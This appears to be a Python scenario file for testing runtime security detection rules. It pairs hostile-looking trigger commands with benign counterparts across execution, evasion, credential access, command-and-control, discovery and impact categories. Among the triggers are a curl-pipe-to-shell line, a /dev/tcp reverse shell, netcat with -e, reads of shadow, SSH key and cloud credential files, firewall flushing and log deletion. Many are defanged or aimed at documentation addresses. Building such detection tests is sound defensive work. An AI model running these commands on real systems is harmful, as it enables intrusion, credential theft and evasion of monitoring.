"""content/rules/runtime: the files about programs, credentials, the network and damage."""
import pathlib
import re

from runtime.scenario import S

# Some runtimes mount an empty /run.
TOKEN = ("cd /run; mkdir -p secrets/kubernetes.io/serviceaccount; "
         "cd secrets/kubernetes.io/serviceaccount; : > token")

# As the profiles of engines since 2023, whatever the engine's age.
WITHOUT_RINGS = pathlib.Path(__file__).with_name("without-io-uring.json")

SETUID = "cp /bin/true /tmp/rooted"

SCENARIOS = [
    # ---- execution.yaml ----
    S("rt-terminal-shell", "/bin/sh -c true", "/bin/sh -c true", direct=True, tty=True),
    S("rt-terminal-program", "whoami", "whoami", direct=True, tty=True, proc__cmdline="whoami"),
    S("rt-shell-by-server", "$n/nginx @fork /bin/sh -c true", "$n/cron @fork /bin/sh -c true",
      proc__pname="nginx"),
    S("rt-tool-by-server", "$n/nginx @fork whoami", "$n/cron @fork whoami", proc__pname="nginx"),
    S("rt-download-and-run", "sh -c 'true # curl -s http://192.0.2.1/i.sh | sh'",
      "sh -c 'true # curl -s http://192.0.2.1/health | grep ok'"),
    S("rt-decode-and-run", "echo dHJ1ZQ== | base64 -d | sh",
      "echo dHJ1ZQ== | base64 -d > /tmp/out"),
    S("rt-package-manager", "apt-get install no-such-package > /dev/null 2>&1",
      "dpkg -l > /dev/null", proc__cmdline="apt-get install no-such-package"),
    S("rt-language-packages", "$n/pip3 install x", "$n/pip3 list", proc__cmdline="pip3 install x"),
    S("rt-compiler", "$n/gcc x.c", "$n/gcc --version", proc__cmdline="gcc x.c"),
    S("rt-service-manager", "$n/systemctl start x",
      "$s/dpkg @fork $n/systemctl daemon-reload", proc__cmdline="systemctl start x"),
    S("rt-sshd", "$n/sshd -D", "$n/ssh-agent", proc__cmdline="sshd -D"),
    S("rt-switch-user", "su root -c true", "su root -c true", direct=True, tty=True,
      proc__cmdline="su root -c true"),
    S("rt-root", "/bin/true", "/bin/true", where="start", benign_options=("--user", "1000"),
      user__uid="0"),
    S("rt-drift", "cp /bin/true /tmp/drifted; /tmp/drifted", "/bin/true",
      proc__exepath="/tmp/drifted"),
    S("rt-temporary-executable", "touch /tmp/file-1; chmod 755 /tmp/file-1",
      "touch /tmp/file-2; chmod 644 /tmp/file-2", fs__path__name="/tmp/file-1"),
    S("rt-setuid-bit", "cp /bin/true /tmp/suid; chmod 4755 /tmp/suid",
      "cp /bin/true /tmp/suid; chmod 755 /tmp/suid", fs__path__name="/tmp/suid"),
    S("rt-file-capability", "$n/setcap cap_setuid+ep /tmp/x", "$n/getcap /tmp/x",
      proc__cmdline="setcap cap_setuid+ep /tmp/x"),
    S("rt-local-exploit", "$n/pkexec", "$n/pkexec ls", proc__cmdline="pkexec"),
    S("rt-privileged-shell", "bash -p < /dev/null", "bash -l < /dev/null",
      proc__cmdline="bash -p"),

    S("rt-root-gained", f"{SETUID}; chmod 4755 /tmp/rooted; $n/act @as 1 @fork /tmp/rooted",
      f"{SETUID}; chmod 755 /tmp/rooted; $n/act @as 1 @fork /tmp/rooted", user__ruid="1",
      proc__cmdline="rooted"),

    # ---- evasion.yaml ----
    S("rt-fileless", "$n/act @memfd /bin/true", "$n/act @fork /bin/true",
      proc__exepath=re.compile("memfd:in-memory")),
    S("rt-shared-memory-program",
      "cp /bin/true /dev/shm/plimsoll-a; /dev/shm/plimsoll-a; rm /dev/shm/plimsoll-a",
      "cp /bin/true /tmp/plimsoll-a; /tmp/plimsoll-a; rm /tmp/plimsoll-a", where="host"),
    S("rt-hidden-program", "mkdir -p /tmp/.x; cp /bin/true /tmp/.x/run; /tmp/.x/run",
      "mkdir -p /tmp/x.d; cp /bin/true /tmp/x.d/run; /tmp/x.d/run", proc__exepath="/tmp/.x/run"),
    S("rt-masquerade", "$n/act @argv0 '[kworker/0:1]' /bin/true",
      "$n/act @argv0 worker /bin/true", proc__exe="[kworker/0:1]"),
    S("rt-deleted-program", "$n/act @deleted /bin/true /tmp/gone", "$n/act @fork /bin/true",
      proc__exepath="/tmp/gone"),
    S("rt-loader", "cp /bin/true /tmp/loaded; /lib64/ld-linux-x86-64.so.2 /tmp/loaded",
      "/lib64/ld-linux-x86-64.so.2 --list /bin/true > /dev/null"),
    S("rt-log-removed", "touch /var/log/auth.log; rm /var/log/auth.log",
      "touch /var/log/app.log; rm /var/log/app.log", proc__cmdline="rm /var/log/auth.log"),
    S("rt-history-removed", "touch /root/.bash_history; rm /root/.bash_history",
      "touch /root/notes; rm /root/notes", proc__cmdline="rm /root/.bash_history"),
    S("rt-guard-off", "$n/setenforce 0", "$n/getenforce", proc__cmdline="setenforce 0"),
    S("rt-firewall-off", "$n/iptables -F", "$n/iptables -L -n", proc__cmdline="iptables -F"),
    S("rt-network-changed", "$n/ip route add default via 192.0.2.1", "$n/ip addr show",
      proc__cmdline="ip route add default via 192.0.2.1"),
    S("rt-timestamps", "touch /tmp/new; touch -r /bin/ls /tmp/new",
      "touch -d yesterday /srv/data/marker", proc__cmdline="touch -r /bin/ls /tmp/new"),
    S("rt-immutable", "$n/chattr +i /tmp/x", "$n/chattr -i /tmp/x",
      proc__cmdline="chattr +i /tmp/x"),
    S("rt-io-uring", "$n/app @io-uring 8", "$n/app @io-uring 8", where="start",
      options=("--security-opt", "seccomp=unconfined"),
      benign_options=("--security-opt", f"seccomp={WITHOUT_RINGS}"),
      evt__type="io_uring_setup", proc__cmdline="app @io-uring 8"),

    # ---- credentials.yaml ----
    S("rt-token-read", f"{TOKEN}; cat token", f"{TOKEN}; $n/controller @open r token",
      fd__name="/run/secrets/kubernetes.io/serviceaccount/token"),
    S("rt-environment-read", "cat /proc/1/environ > /dev/null", "cat /proc/1/cmdline > /dev/null",
      fd__name="/proc/1/environ"),
    S("rt-cloud-metadata", "$n/curl @connect 169.254.169.254 80",
      "$n/app @connect 169.254.169.254 80", fd__sip="169.254.169.254"),
    S("rt-node-credentials", "cat /host/etc/kubernetes/admin.conf",
      "$s/kubelet @open r /host/etc/kubernetes/admin.conf",
      fd__name="/host/etc/kubernetes/admin.conf"),
    S("rt-private-key", "cat /root/.ssh/id_rsa", "$n/ssh @open r /root/.ssh/id_rsa",
      fd__name="/root/.ssh/id_rsa"),
    S("rt-service-credentials", "cat /root/.aws/credentials",
      "$n/aws @open r /root/.aws/credentials", fd__name="/root/.aws/credentials"),
    S("rt-shadow-read", "cat /etc/shadow > /dev/null", "cat /etc/passwd > /dev/null",
      fd__name="/etc/shadow"),
    S("rt-secret-search", "find /srv -name id_rsa", "find /srv -name file",
      proc__cmdline="find /srv -name id_rsa"),
    S("rt-process-memory-read", "$n/app @open-victim r mem", "$n/app @open-victim r maps",
      fd__name=re.compile(r"^/proc/\d+/mem$")),
    S("rt-packet-capture", "$n/app @socket packet", "$n/app @socket inet"),

    # ---- command-and-control.yaml ----
    S("rt-reverse-shell", "$n/app @on-socket 127.0.0.1 5599 /bin/sh -i",
      "echo true | $n/app @fork /bin/sh", proc__cmdline="sh -i"),
    S("rt-stdio-redirected", "$n/python3 @dup 0", "$n/python3 @dup 9",
      fd__name=re.compile(r"^127\.0\.0\.1:\d+->127\.0\.0\.1:4455$")),
    S("rt-dev-tcp", "bash -c 'true # bash -i >& /dev/tcp/198.51.100.10/4444 0>&1'",
      "bash -c 'true # </dev/tcp/db/5432'"),
    S("rt-netcat-exec", "$n/nc 198.51.100.10 4444 -e /bin/sh", "$n/nc -z db 5432",
      proc__cmdline="nc 198.51.100.10 4444 -e /bin/sh"),
    S("rt-script-shell", "perl -e 'use Socket; exit 0; exec \"/bin/sh\"'",
      "perl -e 'use Socket; exit 0'"),
    S("rt-tunnel", "$n/frpc -c x.ini", "$n/app -c x.ini", proc__cmdline="frpc -c x.ini"),
    S("rt-ssh-tunnel", "$n/ssh -N -R 8080:localhost:80 u@192.0.2.1", "$n/ssh u@192.0.2.1 ls"),
    S("rt-hidden-network", "$n/tor", "$n/torch", proc__cmdline="tor"),
    S("rt-dns-tunnel", "$n/iodine t.example.org", "$n/dig example.org",
      proc__cmdline="iodine t.example.org"),

    # ---- discovery.yaml ----
    S("rt-port-scanner", "$n/nmap 192.0.2.0/24", "$n/nc -z db 5432",
      proc__cmdline="nmap 192.0.2.0/24"),
    S("rt-network-tool", "$n/nc 192.0.2.1 80", "$n/nc -z db 5432",
      proc__cmdline="nc 192.0.2.1 80"),
    S("rt-remote-copy", "$n/scp a b:", "$n/scp a b:", benign_where="start",
      proc__cmdline="scp a b:"),
    S("rt-ssh-client", "$n/ssh root@192.0.2.7",
      "$s/git @fork $n/ssh git@192.0.2.1 git-upload-pack", proc__cmdline="ssh root@192.0.2.7"),
    S("rt-kubernetes-client", "$n/kubectl get secrets", "$n/kubectl version",
      proc__cmdline="kubectl get secrets"),
    S("rt-cluster-api", "$n/curl -k https://kubernetes.default/api/v1/secrets",
      "$n/curl http://api/users"),
    S("rt-node-port", "$n/app @connect 203.0.113.9 10250",
      "$s/prometheus @connect 203.0.113.9 10250", fd__name=re.compile(r"->203\.0\.113\.9:10250$")),
    S("rt-attack-tool", "$n/cdk evaluate", "$n/app evaluate", proc__cmdline="cdk evaluate"),

    # ---- impact.yaml ----
    S("rt-miner", "cp $n/act /tmp/xmrig; /tmp/xmrig", "$n/app", proc__cmdline="xmrig"),
    S("rt-miner-arguments", "$n/app -o stratum+tcp://192.0.2.1:3333", "$n/app -o http://192.0.2.1"),
    S("rt-miner-pool", "$n/app @connect 203.0.113.9 14444", "$n/app @connect 203.0.113.9 443",
      fd__name=re.compile(r"->203\.0\.113\.9:14444$")),
    S("rt-data-destroyed", "$n/shred /tmp/nothing", "rm -rf /tmp/nothing",
      proc__cmdline="shred /tmp/nothing"),
]
